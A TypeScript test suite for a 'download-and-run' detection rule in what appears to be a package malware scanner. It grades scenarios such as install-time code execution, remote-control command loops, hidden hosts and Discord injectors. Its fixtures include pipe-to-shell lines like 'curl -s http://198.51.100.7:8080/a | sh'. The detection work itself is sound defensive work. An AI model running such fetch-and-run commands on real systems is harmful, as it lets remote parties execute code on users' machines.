import assert from 'node:assert/strict';
import type { ArtifactFacts, BehaviourKind, Flow, Moment, SinkKind } from '../../server/src/model/index.js';
import { downloadAndRun } from '../../server/src/rules/download-and-run.js';
import { artifactFacts, behaviour, flow } from '../support/artifacts.js';
import { subject } from '../support/subjects.js';
import { draftsOf, onlyDraft } from './support/drafts-of.js';

const given = (facts: Partial<ArtifactFacts>) => ({ artifact: artifactFacts(facts) });
const levelOf = (facts: Partial<ArtifactFacts>) => draftsOf(downloadAndRun, subject(), given(facts))[0]?.level;

describe('download-and-run', () => {
  it('weighs what is run, and when', () => {
    const detail = 'load.invalid';
    const run = (sink: SinkKind, told: Partial<Flow> = {}) =>
      levelOf({ flows: [flow('downloaded', sink, { detail, ...told })] });
    assert.equal(run('evaluated', { moment: 'install' }), 'critical');
    assert.equal(run('run-as-command'), 'critical');
    assert.equal(run('loaded-as-module'), 'high');
    assert.equal(run('written-and-run', { moment: 'install', host: 'github.example' }), 'medium');
    assert.equal(run('evaluated', { moment: 'call' }), 'high', 'whoever calls it has no say in where it comes from');
    assert.equal(run('evaluated', { moment: 'call', detail: '' }), undefined);
    assert.equal(run('loaded-as-module', { moment: 'call' }), undefined);
    assert.equal(run('loaded-as-module', { moment: 'command' }), 'high', 'a command loads what it wants itself');
    assert.equal(run('evaluated', { detail: '' }), 'medium', 'the address is somebody else’s: a loader of plugins');
    assert.equal(levelOf({ behaviours: [behaviour('download-and-run', { moment: 'install' })] }), 'critical');
    assert.equal(levelOf({ behaviours: [behaviour('download-and-run', { moment: 'call' })] }), 'medium');
  });

  it('weighs more what a system or an assistant is told to start anew each time', () => {
    const told = (line: number, kind: BehaviourKind = 'autostart'): Partial<ArtifactFacts> => ({
      flows: [flow('downloaded', 'written-and-run', { detail: 'files.example', moment: 'call' })],
      behaviours: [behaviour(kind, { moment: 'call', line })],
    });
    assert.equal(levelOf(told(2)), 'high');
    assert.equal(levelOf(told(2, 'agent-configuration')), 'high');
    assert.equal(levelOf(told(3)), undefined, 'what is started is something else');
    const command = behaviour('download-and-run', { moment: 'command' });
    assert.equal(levelOf({ behaviours: [command] }), 'medium');
    assert.equal(levelOf({ behaviours: [command, behaviour('autostart', { moment: 'command' })] }), 'high');
  });

  it('weighs more a command that is hidden', () => {
    const hidden = (line: number, told: Partial<Flow> = {}): string | undefined =>
      levelOf({
        flows: [flow('data-file', 'run-as-command', { via: ['WebAssembly'], moment: 'call', ...told })],
        behaviours: [behaviour('download-and-run', { moment: 'call', line })],
      });
    assert.equal(hidden(2), 'high');
    assert.equal(hidden(3), 'medium', 'another one is');
    assert.equal(hidden(2, { via: [] }), 'medium', 'it is written down in a file');
  });

  it('is critical where the host of a program that nobody asked for is hidden', () => {
    const run = (hidden: string, moment: 'import' | 'command') =>
      levelOf({
        flows: [flow('downloaded', 'written-and-run', { detail: 'files.example', moment })],
        behaviours: [behaviour('decoded-address', { detail: hidden, moment })],
      });
    assert.equal(run('files.example', 'import'), 'critical');
    assert.equal(run('other.example', 'import'), 'medium');
    assert.equal(run('files.example', 'command'), undefined);
  });

  it('takes for vouched for only that program which was checked', () => {
    const run = (checked: string, sink: SinkKind = 'written-and-run') =>
      levelOf({
        flows: [flow('downloaded', sink, { detail: 'files.example', moment: 'install' })],
        behaviours: [behaviour('download-checked', { detail: checked, moment: 'install' })],
      });
    assert.equal(run('files.example'), undefined);
    assert.equal(run('other.example'), 'medium');
    assert.equal(run('files.example', 'evaluated'), 'critical', 'code, and no program');
  });

  it('lets a program that somebody starts run what a language model proposes (claude-code)', () => {
    const run = (detail: string, told: Partial<Flow> = {}) =>
      levelOf({ flows: [flow('downloaded', 'run-as-command', { detail, moment: 'command', ...told })] });
    assert.equal(run('api.anthropic.com'), undefined);
    assert.equal(run('api.openai.com', { moment: 'call', sink: 'evaluated' }), undefined);
    assert.equal(run('api.openai.com', { moment: 'import' }), 'high');
    assert.equal(run('api.openai.com', { moment: 'install' }), 'critical');
    assert.equal(run('api.openai.com.invalid'), 'high');
    assert.equal(run('load.invalid'), 'high');
  });

  it('knows an assistant by what it asks its service for, where somebody has started it', () => {
    const run = (address: string, moment: Moment = 'command') =>
      levelOf({
        flows: [
          flow('downloaded', 'run-as-command', { detail: 'api.rig.example', moment }),
          flow('command-output', 'network', { host: 'api.rig.example', address, moment }),
        ],
      });
    assert.equal(run('https://api.rig.example/v1/chat/completions'), undefined);
    assert.equal(run('https://api.rig.example/chat'), undefined);
    assert.equal(run('https://api.rig.example/tasks'), 'critical');
    assert.equal(run('https://api.rig.example/chat', 'import'), 'critical');
  });

  it('takes a program that is replaced by what is downloaded for critical whenever that is (Discord injectors)', () => {
    const at = { file: 'a.js', line: 4 };
    const flows = [
      flow('downloaded', 'written-and-run', {
        detail: 'load.invalid',
        moment: 'call',
        to: { ...at, column: 1, snippet: '' },
      }),
    ];
    const replaced = behaviour('application-changed', { moment: 'call', ...at });
    assert.equal(levelOf({ flows, behaviours: [replaced] }), 'critical');
    assert.equal(levelOf({ flows }), undefined);
  });

  it('lets a page load more of itself (onnxruntime-web)', () => {
    const load = (detail: string) => levelOf({ flows: [flow('downloaded', 'loaded-as-module', { detail })] });
    assert.equal(load('/ort-wasm-simd-threaded.mjs'), undefined);
    assert.equal(load('./worker.mjs'), undefined);
    assert.equal(load('//load.invalid/worker.mjs'), 'high');
    assert.equal(load(''), undefined, 'its server tells it what has changed (vite)');
  });

  it('weighs a program more that comes from no name, or runs where nobody looks for it', () => {
    const run = (told: Partial<Flow>) =>
      levelOf({ flows: [flow('downloaded', 'written-and-run', { moment: 'install', ...told })] });
    assert.equal(run({ detail: '198.51.100.7' }), 'critical');
    assert.equal(run({ detail: 'load.invalid', address: '‹tmp›/a.exe' }), 'critical');
    assert.equal(run({ detail: 'load.invalid', address: '‹node_modules›/‹package›/bin/tool' }), 'medium');
    assert.equal(run({ detail: 'load.invalid', address: '‹tmp›/a.exe', moment: 'call' }), undefined);
    assert.equal(run({ detail: '198.51.100.7', moment: 'call' }), 'high');
    assert.equal(run({ detail: '192.168.1.4', moment: 'call' }), undefined);
  });

  it('takes a command that fetches from no name for worse, whoever asks for it', () => {
    const run = (detail: string) =>
      levelOf({ behaviours: [behaviour('download-and-run', { moment: 'call', detail })] });
    assert.equal(run('curl -s http://198.51.100.7:8080/a | sh'), 'high');
    assert.equal(run('curl -s http://192.168.1.4/a | sh'), 'medium');
    assert.equal(run('curl -fsSL https://get.tool.example | sh'), 'medium');
  });

  it('weighs commands most whose output goes back to who sent them', () => {
    const told = flow('downloaded', 'run-as-command', { detail: 'load.invalid', moment: 'command' });
    const answer = (host: string) => flow('command-output', 'network', { host, moment: 'command' });
    assert.equal(levelOf({ flows: [told, answer('load.invalid')] }), 'critical');
    assert.equal(levelOf({ flows: [told, answer('log.invalid')] }), 'high');
    // Code that is run as soon as it is imported is as bad without an answer.
    const code = flow('downloaded', 'page-script', { detail: 'load.invalid', host: 'load.invalid', via: ['base64'] });
    assert.equal(levelOf({ flows: [code] }), 'high');
    const name = flow('host-identity', 'network', { host: 'load.invalid', detail: 'hostname' });
    assert.equal(levelOf({ flows: [code, name] }), 'critical', 'what comes back is made for whoever asked');
  });

  it('takes a command in the place of a common one as one that runs unasked', () => {
    const run = behaviour('download-and-run', { moment: 'command' });
    assert.equal(levelOf({ behaviours: [run] }), 'medium');
    assert.equal(levelOf({ behaviours: [run, behaviour('shadowed-command', { moment: 'command' })] }), 'critical');
  });

  it('shows the command first (ua-parser-js, 2021)', () => {
    const behaviours = [behaviour('download-and-run', { moment: 'install', file: 'preinstall.sh' })];
    const facts = given({ behaviours, flows: [flow('downloaded', 'evaluated')] });
    const draft = onlyDraft(draftsOf(downloadAndRun, subject(), facts));
    assert.equal(draft.message, 'some-package 1.0.0 downloads something and runs it when it is installed');
    assert.equal(draft.evidence[0]?.file, 'preinstall.sh');
  });

  it('lets what is downloaded be shown or stored', () => {
    assert.equal(levelOf({ flows: [flow('downloaded', 'network')] }), undefined);
  });

  it('says nothing where nothing is known', () => {
    assert.deepEqual(draftsOf(downloadAndRun, subject()), []);
  });

  it('is a remote control where one host gives commands and reads the answers, whenever that is', () => {
    const moment = 'call';
    const orders = flow('downloaded', 'run-as-command', { detail: '198.51.100.24', moment });
    const answers = (host: string): Flow => flow('command-output', 'network', { host, moment });
    assert.equal(levelOf({ flows: [orders, answers('198.51.100.24')] }), 'critical');
    assert.equal(levelOf({ flows: [orders, answers('log.invalid')] }), 'high');
  });
});
